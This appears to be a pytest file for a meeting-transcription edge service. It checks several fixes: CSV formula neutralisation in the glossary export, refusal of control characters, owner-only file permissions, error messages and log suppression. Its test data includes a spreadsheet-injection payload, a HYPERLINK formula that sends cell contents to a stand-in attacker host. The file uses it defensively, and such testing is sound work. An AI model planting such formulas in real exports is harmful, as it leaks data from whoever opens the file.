"""The smaller findings of issue 17 (finding 14), each against the real component: the glossary CSV export
neutralises spreadsheet formulas; NUL and other control characters are refused in a segment edit; the
database and audio archives are readable by the service user only; an unknown meeting's message names a
way to list meetings that exists; `edge glossary` without a configuration creates no database; `edge
models fetch` says a partial file is kept only when one is; llama.cpp's log stays off stderr."""

from __future__ import annotations

import csv
import io
import logging
import stat
from collections.abc import Callable
from pathlib import Path

import httpx
import numpy as np
import pytest
from fake_box import FakeBox
from mosquitto import free_port

from edge.audio.archive import MeetingAudioArchive
from edge.commands.cli import main
from edge.core.errors import ModelError
from edge.ops.model_fetch import fetch_file
from edge.ops.model_manifest import ManifestFile
from edge.store import MeetingNotFound, Store
from edge.text.glossary import Glossary, GlossaryTerm

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+82-2-123-4567", "-2+3", "@SUM(A1:A9)"]


def test_the_glossary_csv_export_never_starts_a_cell_with_a_formula(client: httpx.Client) -> None:
    for n, text in enumerate(FORMULAS):
        answer = client.put(f"/glossary/terms/용어{n}", json={"aliases": [text], "note": text})
        assert answer.status_code == 200, answer.text
    exported = client.get("/glossary/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row if cell]
    assert len(rows) == len(FORMULAS)
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
    assert {row[2] for row in rows} == {"'" + text for text in FORMULAS}


def test_a_glossary_with_formula_like_text_round_trips_through_csv() -> None:
    glossary = Glossary([GlossaryTerm(f"용어{n}", (text, f"별칭{n}"), text, "-scope") for n, text in
                         enumerate(FORMULAS)])
    text = glossary.dumps()
    assert "\n=" not in text and ",=" not in text and ",@" not in text and ",+" not in text
    assert Glossary.loads(text) == glossary


@pytest.mark.parametrize("text", ["첫\x00문장", "bell\x07", "del\x7f", "c1\x9bx"])
def test_control_characters_in_a_segment_edit_are_refused(client: httpx.Client, box: FakeBox, text: str) -> None:
    box.start_meeting(title="주간 회의")
    box.inject_segment("첫 문장입니다")
    meeting_id = box.stop_meeting().id
    answer = client.patch(f"/meetings/{meeting_id}/segments/0", json={"text": text})
    assert answer.status_code == 422, answer.text
    assert "control character" in answer.text
    assert client.get(f"/meetings/{meeting_id}/segments").json()["items"][0]["text"] == "첫 문장입니다"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_and_archives_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    store = Store(tmp_path / "data" / "edge.db")
    meeting = store.create_meeting(language="ko", source="test")
    store.add_segment(meeting.id, t0_ms=0, t1_ms=1, text_raw="비밀 회의", language="ko")
    for name in ("edge.db", "edge.db-wal", "edge.db-shm"):
        assert _mode(tmp_path / "data" / name) == 0o600, name
    store.close()
    (tmp_path / "data" / "edge.db").chmod(0o644)  # a database made before the rule
    Store(tmp_path / "data" / "edge.db").close()
    assert _mode(tmp_path / "data" / "edge.db") == 0o600

    archive = MeetingAudioArchive(tmp_path / "audio", meeting.id)
    archive.write_samples(np.zeros(1600, dtype=np.float32))
    archive.close()
    assert _mode(archive.path) == 0o600
    archive.path.chmod(0o644)
    MeetingAudioArchive(tmp_path / "audio", meeting.id).close()
    assert _mode(archive.path) == 0o600


def test_an_unknown_meeting_names_a_way_to_list_meetings_that_exists(tmp_path: Path) -> None:
    from edge.commands.cli import COMMANDS

    store = Store(tmp_path / "edge.db")
    with pytest.raises(MeetingNotFound) as missing:
        store.meeting("no-such-meeting")
    store.close()
    assert "edge meetings" not in str(missing.value) and "meetings" not in COMMANDS
    assert "GET /api/v1/meetings" in str(missing.value)


def test_edge_glossary_without_a_configuration_creates_no_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("EDGE_CONFIG", raising=False)
    monkeypatch.delenv("EDGE_STORAGE__PATH", raising=False)
    team = tmp_path / "team.csv"
    team.write_text("term,aliases,note\nKubernetes,쿠버네티스,\n", encoding="utf-8")
    for argv in (["glossary", "list"], ["glossary", "export"], ["glossary", "import", str(team)]):
        assert main(argv) == 2, argv
        err = capsys.readouterr().err
        assert "no database" in err and "--config" in err and "Traceback" not in err
    assert not (tmp_path / "data").exists()


def test_edge_glossary_list_with_a_configuration_of_a_box_not_yet_run_creates_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("EDGE_CONFIG", raising=False)
    config = tmp_path / "edge.toml"
    config.write_text('[storage]\npath = "data"\n', encoding="utf-8")
    assert main(["glossary", "list", "--config", str(config)]) == 0
    assert "the glossary is empty" in capsys.readouterr().err
    assert not (tmp_path / "data").exists()


def test_a_fetch_that_got_nothing_does_not_claim_a_partial_file_is_kept(tmp_path: Path) -> None:
    url = f"http://127.0.0.1:{free_port()}/model.bin"  # nothing listens there
    file = ManifestFile("model.bin", url, "0" * 64, 1000)
    with pytest.raises(ModelError) as failed:
        fetch_file(file, tmp_path, retries=0, backoff_seconds=0)
    assert not (tmp_path / "model.bin.part").exists()
    assert "is kept" not in str(failed.value) and "nothing was kept" in str(failed.value)


def test_llama_cpp_logs_nothing_on_stderr_when_not_verbose(
    dev_model: Callable[[str], Path], capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    from edge.llm.engine import LlmEngine

    caplog.set_level(logging.DEBUG, logger="edge.llm.llama_cpp")
    capfd.readouterr()
    # Gemma 3 makes llama.cpp warn about its sliding-window cache, which llama-cpp-python printed even when quiet.
    with LlmEngine(dev_model("gemma-3-270m-q4_k_m.gguf"), n_ctx=256, threads=1, seed=1) as engine:
        engine.complete("회의 요약:", max_tokens=4)
    assert capfd.readouterr().err == ""
    assert any("SWA" in record.getMessage() for record in caplog.records if record.name == "edge.llm.llama_cpp")


